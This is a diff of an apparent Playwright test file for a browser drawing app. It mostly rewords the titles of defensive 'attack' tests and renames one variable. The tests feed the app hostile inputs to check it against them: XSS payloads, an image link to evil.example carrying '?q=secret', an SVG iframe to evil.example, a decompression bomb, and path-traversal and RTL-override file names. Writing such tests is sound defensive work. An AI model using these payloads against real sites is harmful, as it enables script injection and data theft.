@@ -188,7 +188,7 @@ test("attack: markup is text in the tree, the log, problems and the preview", as
   await clean("in the preview");
 });
 
-test("attack: what a model writes is text, without links, pictures or markup", async ({ run }) => {
+test("attack: text of a model is shown without links, pictures or markup", async ({ run }) => {
   const words =
     "Here ![](https://evil.example/?q=secret) and [a link](javascript:alert(1)) and <img src=x onerror=alert(1)> <script>alert(1)</script> **done**";
   const mock = await startMock({ turns: [reply(text(words))] });
@@ -219,7 +219,7 @@ function crc32(bytes) {
   return (~crc >>> 0).toString(16).padStart(8, "0");
 }
 
-test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, async ({ run }) => {
+test("attack: a link that decompresses to a gigabyte is refused at once", TIMED, async ({ run }) => {
   const packed = deflateRawSync(Buffer.alloc(1 << 30, 32), { level: 9 });
   const encoded = packed.toString("base64url");
   const page = await openApp(run);
@@ -239,7 +239,7 @@ test("attack: a link that unpacks to a gigabyte is refused at once", TIMED, asyn
   await waitForEntities(page, ["own"]);
 });
 
-test("attack: whatever a worker answers, the drawing stays and the next run works", async ({ run }) => {
+test("attack: forged worker answers leave the drawing unchanged, and the next run works", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   page.on("dialog", (dialog) => run.problems.push(`a dialog: ${dialog.message()}`));
   await drawCircles(page, "before");
@@ -272,7 +272,7 @@ test("attack: whatever a worker answers, the drawing stays and the next run work
   }
 });
 
-test("attack: never more than two workers, and no outcome is lost", async ({ run }) => {
+test("attack: at most two workers exist, and every run ends", async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "first");
   // A newer run replaces an older one that has not ended.
@@ -284,7 +284,7 @@ test("attack: never more than two workers, and no outcome is lost", async ({ run
   await assertRunsEnded(page, run);
 });
 
-test("attack: without an engine the page says so and everything else works", async ({ run }) => {
+test("attack: a missing engine is reported and everything else works", async ({ run }) => {
   run.allow(/Failed to load resource/, /404/, /SyntaxError/, /WebAssembly/, /sandbox/);
   const answers = [
     ["sandbox_bg.wasm", { status: 404, body: "not found" }, /could not be loaded/],
@@ -353,7 +353,7 @@ test("attack: a worker has no network, no storage and no other workers", async (
   assert(said.includes("found[]"), `what a worker can reach: ${said}`);
 });
 
-test("attack: a saved picture of hostile texts runs and fetches nothing when it is opened", async ({ run }) => {
+test("attack: an exported SVG with hostile texts runs and fetches nothing", async ({ run }) => {
   const page = await openApp(run);
   const texts = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]><script>alert(2)</script>", "</text><foreignObject><iframe src=https://evil.example>"];
   const lines = texts.map((text, at) => {
@@ -390,7 +390,7 @@ test("attack: a saved picture of hostile texts runs and fetches nothing when it 
   assertEqual(troubles, [], "what the picture did");
 });
 
-test("share: file names of hostile titles are plain", async ({ run }) => {
+test("share: file names of hostile titles are sanitized", async ({ run }) => {
   const page = await openApp(run);
   for (const title of ["../../x", "C:\\\\x", ".hidden", "a\u202egpj.exe", "x".repeat(200), "a/b:c*d?e|f", "-rf", "con"]) {
     await typeCode(page, `set_drawing({ name: ${JSON.stringify(title)} });\ndrawCircle("c", 0, 0, ${title.length});`);
@@ -408,7 +408,7 @@ test("share: file names of hostile titles are plain", async ({ run }) => {
   }
 });
 
-test("attack: storage filled to the quota, and storage switched off, lose nothing", async ({ run }) => {
+test("attack: full and disabled storage lose nothing", async ({ run }) => {
   const page = await openApp(run);
   await drawCircles(page, "stored");
   await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
@@ -455,25 +455,25 @@ test("attack: storage filled to the quota, and storage switched off, lose nothin
   assert((await saved(closed, "export-project-file")).text.includes("without"), "the export works without storage");
 });
 
-test("attack: spoilt storage opens, is said and is left in place", async ({ run }) => {
+test("attack: corrupt storage is reported and left in place", async ({ run }) => {
   const page = await openApp(run);
   await drawCircles(page, "kept");
   await page.waitForSelector(`${hook("saved")}[data-state="saved"]`);
-  const spoilt = { "work:holds": '{"a":', "work:title": '{"name":1}', "work:tools": '[{"version":99}]', "work:memory/decisions": "7" };
-  await page.evaluate((spoilt) => {
-    for (const [key, value] of Object.entries(spoilt)) localStorage.setItem(`trammel:${key}`, value);
-  }, spoilt);
+  const corrupt = { "work:holds": '{"a":', "work:title": '{"name":1}', "work:tools": '[{"version":99}]', "work:memory/decisions": "7" };
+  await page.evaluate((corrupt) => {
+    for (const [key, value] of Object.entries(corrupt)) localStorage.setItem(`trammel:${key}`, value);
+  }, corrupt);
   await page.reload();
   await ready(page);
   await waitForEntities(page, ["kept"]);
   run.note((await page.locator(hook("not-read")).innerText()).slice(0, 160));
   await drawCircles(page, "kept", "more");
-  const left = await page.evaluate((keys) => keys.map((key) => localStorage.getItem(`trammel:${key}`)), Object.keys(spoilt));
+  const left = await page.evaluate((keys) => keys.map((key) => localStorage.getItem(`trammel:${key}`)), Object.keys(corrupt));
   run.note(`left in place: ${JSON.stringify(left)}`);
-  assertEqual(left.slice(0, 3), Object.values(spoilt).slice(0, 3), "what could not be read");
+  assertEqual(left.slice(0, 3), Object.values(corrupt).slice(0, 3), "what could not be read");
 });
 
-test("attack: two tabs that write in the same moment lose neither text", async ({ run }) => {
+test("attack: two tabs that write at the same time lose no text", async ({ run }) => {
   const first = await openApp(run);
   await drawCircles(first, "ours");
   const second = await first.context().newPage();
@@ -495,7 +495,7 @@ test("attack: two tabs that write in the same moment lose neither text", async (
   await waitForEntities(asked[0], asked[1]);
 });
 
-test("attack: a page that was frozen, and clocks that jump, end a run with a time limit", TIMED, async ({ run }) => {
+test("attack: a run ends at its limit on a blocked page with clock jumps", TIMED, async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "before");
   await startEndless(page, "blocked");
@@ -515,7 +515,7 @@ test("attack: a page that was frozen, and clocks that jump, end a run with a tim
   await page.waitForSelector(hook("problem"), { state: "detached" });
 });
 
-test("attack: an engine of the wrong type or forbidden by the page's policy is said", async ({ run }) => {
+test("attack: an engine with a wrong MIME type or blocked by CSP is reported", async ({ run }) => {
   run.allow(/Content.Security.Policy|CSP/, /wasm|WebAssembly|MIME/);
   // A host that serves WebAssembly with the wrong MIME type: the engine starts nevertheless.
   const wrong = await run.newPage();
@@ -546,7 +546,7 @@ test("attack: an engine of the wrong type or forbidden by the page's policy is s
   await page.waitForSelector(hook("share-url"));
 });
 
-test("attack: a run that is stopped while it starts, runs or ends leaves one outcome", TIMED, async ({ run }) => {
+test("attack: a run replaced while it starts, runs or ends has one outcome", TIMED, async ({ run }) => {
   const page = await openApp(run, { init: watchWorkers });
   await drawCircles(page, "first");
 
